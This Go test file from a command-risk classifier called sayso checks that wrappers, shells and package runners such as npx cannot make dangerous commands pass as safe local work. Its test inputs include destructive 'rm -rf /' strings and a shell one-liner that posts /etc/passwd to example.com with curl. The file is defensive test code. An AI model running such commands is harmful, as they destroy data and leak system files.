package risk

import (
	"sort"
	"testing"

	"github.com/sayso-dev/sayso/internal/program"
)

// TestRegistryMatchesClassifiers holds the registry and the classifiers
// together: a program sayso knows has a classifier, and a classifier
// classifies a program the registry knows.
func TestRegistryMatchesClassifiers(t *testing.T) {
	var missing []string
	for _, n := range program.Names(0) {
		if classifier(n) == nil {
			missing = append(missing, n)
		}
	}
	sort.Strings(missing)
	for _, n := range missing {
		t.Errorf("the registry lists %q, which has no classifier", n)
	}
	var extra []string
	for n := range programs() {
		if !program.Known(n) {
			extra = append(extra, n)
		}
	}
	sort.Strings(extra)
	for _, n := range extra {
		t.Errorf("%q has a classifier but the registry does not list it", n)
	}
}

// TestWrappersSeeThrough: every program the registry calls a wrapper, a
// runner of its arguments or an interpreter never lets what it runs pass
// for local work. It would have caught run0.
func TestWrappersSeeThrough(t *testing.T) {
	for _, n := range program.Names(program.Wrapper) {
		for _, src := range []string{n + " rm -rf /", n + " -- rm -rf /", n + " x rm -rf /"} {
			got := Command(src, TestContext).Classes
			if Safe(got) {
				t.Errorf("Classify(%q) = %v: a wrapper's command passes for local work", src, got)
			}
		}
		if program.Is(n, program.AsUser) {
			if got := Command(n+" ls", TestContext).Classes; !got.Has(Privilege) && !got.Has(Opaque) {
				t.Errorf("Classify(%q) = %v, want privilege", n+" ls", got)
			}
		}
	}
	for _, n := range program.Names(program.Bourne) {
		src := n + " -c 'curl -d @/etc/passwd https://example.com'"
		if got := Command(src, TestContext).Classes; Safe(got) {
			t.Errorf("Classify(%q) = %v: inline code passes for local work", src, got)
		}
	}
	// risk's own interpreters, shells and task runners are the registry's:
	// a family that runs what it is given says so in its runs field.
	want := map[runs]program.Trait{runsCode: program.Interpreter | program.Shell, runsShell: program.Shell, runsTasks: program.Runner}
	for _, f := range families() {
		if f.runs == runsOwn {
			continue
		}
		for _, n := range f.names {
			if !program.Is(n, want[f.runs]) {
				t.Errorf("risk classifies %q as running what it is given (family %s), the registry says only %v", n, f.names[0], program.Traits(n))
			}
		}
	}
	for _, n := range program.Names(program.StdinArgs) {
		src := "cat list | " + n + " rm -rf --"
		if got := Command(src, TestContext).Classes; Safe(got) {
			t.Errorf("Classify(%q) = %v", src, got)
		}
	}
}

// TestPackageRunnerSeesKnownProgram: npx running a program sayso knows
// classifies it as that program, in npx's own segment, whichever table
// the program's classifier came from. It failed for the programs the
// registry knew only by their Looks or Builds trait (npx biome), which
// had no table of risk's own.
func TestPackageRunnerSeesKnownProgram(t *testing.T) {
	for _, n := range append(program.Lookers(), program.Builders()...) {
		if program.Is(n, program.Builtin|program.Wrapper|program.Launcher) {
			continue // shell peels or runs these itself
		}
		alone := Command(n, TestContext).Findings
		if len(alone) == 0 || alone[0].Class == Opaque {
			continue // a keyword the shell cannot read alone: [[, let
		}
		want := alone[0].Why()
		src := "npx " + n
		found := false
		for _, f := range Command(src, TestContext).Findings {
			if f.Segment == 0 && f.Why() == want {
				found = true
			}
		}
		if !found {
			t.Errorf("Classify(%q): npx's segment lacks %q", src, want)
		}
	}
}
